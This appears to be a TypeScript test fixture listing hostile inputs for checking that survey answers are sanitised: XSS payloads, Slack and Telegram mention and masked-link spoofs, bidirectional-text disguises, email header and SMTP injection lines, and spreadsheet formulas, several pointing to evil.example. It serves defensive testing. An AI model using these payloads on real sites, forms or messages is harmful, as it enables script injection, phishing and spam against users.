/**
 * Texts that somebody may write in a survey, as a company's name or anywhere else, to be run, to call people or to lie where
 * others read them. A page in which one runs sets `window.hit`, shows a dialog or asks for something at evil.example.
 */
const scripts = [
  '<script>window.hit=1</script>', '<script src=https://evil.example/x.js></script>', '<ScRiPt>window.hit=1</sCrIpT>', '<script>window.hit=1', '<<script>window.hit=1;//<</script>',
  '</script><script>window.hit=1</script>', '</style><script>window.hit=1</script>', '</title><script>window.hit=1</script>', '</textarea><script>window.hit=1</script>', '</blockquote></td></tr></table><script>window.hit=1</script>',
  '--><script>window.hit=1</script>', ']]><script>window.hit=1</script>', '<!--<script>window.hit=1</script>-->', '<![CDATA[<script>window.hit=1</script>]]>', '<script\u0000>window.hit=1</script>', '<script/x>window.hit=1</script>', '<script\n>window.hit=1</script\n>',
];
const handlers = [
  '<img src=x onerror=window.hit=1>', '<img src="x" onerror="window.hit=1">', '<img src=x:x onerror=window.hit=1//>', '<img/src=x/onerror=window.hit=1>', '<IMG """><SCRIPT>window.hit=1</SCRIPT>">', '<img src=https://evil.example/pixel.png>',
  '<svg onload=window.hit=1>', '<svg/onload=window.hit=1>', '<svg><script>window.hit=1</script></svg>', '<svg><animate onbegin=window.hit=1 attributeName=x dur=1s>', '<svg><a xlink:href="javascript:window.hit=1"><text y=20>x</text></a></svg>', '<math><mtext><img src=x onerror=window.hit=1></mtext></math>',
  '<body onload=window.hit=1>', '<details open ontoggle=window.hit=1>', '<input autofocus onfocus=window.hit=1>', '<select autofocus onfocus=window.hit=1>', '<textarea autofocus onfocus=window.hit=1>', '<video><source onerror=window.hit=1></video>', '<audio src=x onerror=window.hit=1>',
  '<marquee onstart=window.hit=1>x</marquee>', '<object data=https://evil.example/>', '<embed src=https://evil.example/>', '<iframe src=javascript:window.hit=1></iframe>', '<iframe srcdoc="<script>parent.hit=1</script>"></iframe>', '<iframe src=https://evil.example/></iframe>',
  '<link rel=stylesheet href=https://evil.example/x.css>', '<meta http-equiv=refresh content="0;url=https://evil.example/">', '<base href=https://evil.example/>', '<form action=https://evil.example/><input type=submit></form>', '<style>@import "https://evil.example/x.css";</style>',
  '<div style="background:url(https://evil.example/x.png)">x</div>', '<table background=https://evil.example/x.png><tr><td>x</table>', '<p/onpointerenter=window.hit=1>x</p>', '<template><script>window.hit=1</script></template>', '<noscript><p title="</noscript><img src=x onerror=window.hit=1>">',
];
const attributes = [
  '" onmouseover="window.hit=1', "' onmouseover='window.hit=1", '" autofocus onfocus="window.hit=1" x="', '"><script>window.hit=1</script>', "'><script>window.hit=1</script>", '"><img src=x onerror=window.hit=1>', '` onmouseover=`window.hit=1', '&quot;><script>window.hit=1</script>',
  '&#34;&gt;&lt;script&gt;window.hit=1&lt;/script&gt;', '&lt;script&gt;window.hit=1&lt;/script&gt;', '%3Cscript%3Ewindow.hit=1%3C/script%3E', '\\u003cscript\\u003ewindow.hit=1\\u003c/script\\u003e', '＜script＞window.hit=1＜/script＞', '+ADw-script+AD4-window.hit=1+ADw-/script+AD4-',
  'javascript:window.hit=1', 'JaVaScRiPt:window.hit=1', 'data:text/html,<script>window.hit=1</script>', 'vbscript:msgbox(1)', '{{constructor.constructor("window.hit=1")()}}', '${window.hit=1}', '<%= window.hit=1 %>', "'-window.hit=1-'", '";window.hit=1;//',
];
const mentions = [
  '<!channel>', '<!here>', '<!everyone>', '<!subteam^S012345|@cs>', '<!date^1392734382^{date}|x>', '<@U0123456>', '<@W0123456>', '<#C0123456>', '<#C0123456|general>', '&lt;!channel&gt;', '&amp;lt;!channel&amp;gt;', '<\u200b!channel>', '@channel', '@here', '@everyone', '@group',
  '@baton_bot', '@durov', 'oi @ana.souza!', 'a @b @c', '＠channel', '/start@evil_bot', '/delete', 'veja /start agora', '[HubSpot](tg://user?id=1)', '<a href="tg://user?id=1">Ana</a>', '<tg-emoji emoji-id="1">x</tg-emoji>', '<tg-spoiler>x</tg-spoiler>', '<b>negrito', '</b></i></blockquote>', '<blockquote expandable>x',
];
const maskedLinks = [
  '<https://evil.example|https://app.hubspot.com>', '<https://evil.example|HubSpot>', '<mailto:eve@evil.example|Ana>', '<tel:+551199|Ligar>', '<slack://channel?team=T1&id=C1|abrir>', '[HubSpot](https://evil.example)', '<a href="https://evil.example">HubSpot</a>', '<a href=https://evil.example>https://app.hubspot.com</a>', '![x](https://evil.example/p.png)', '|x>', '>|<', '*|_~`',
];
const disguises = [
  '\u202egpj.exe\u202c', '\u2066https://evil.example\u2069', '\u200f\u200eabc', '\u061cabc', '\ufeffabc', 'a\u0000b', 'a\u0008b', '\u001b[2J\u001b[31mabc', '\r\nBcc: eve@evil.example', '\nSubject: x', '\r\n.\r\nMAIL FROM:<eve@evil.example>', '\u2028Bcc: eve@evil.example', '\u0085x', '=?utf-8?B?PHNjcmlwdD4=?=', '\ud800', '\udc00x', '👨‍👩‍👧‍👦', 'Z̸̧͚a̴͎l̷g̸o̶', '=HYPERLINK("https://evil.example")', '@SUM(1)', '-2+3', '\t=1+1',
];

export const hostileTexts: readonly string[] = [...scripts, ...handlers, ...attributes, ...mentions, ...maskedLinks, ...disguises];
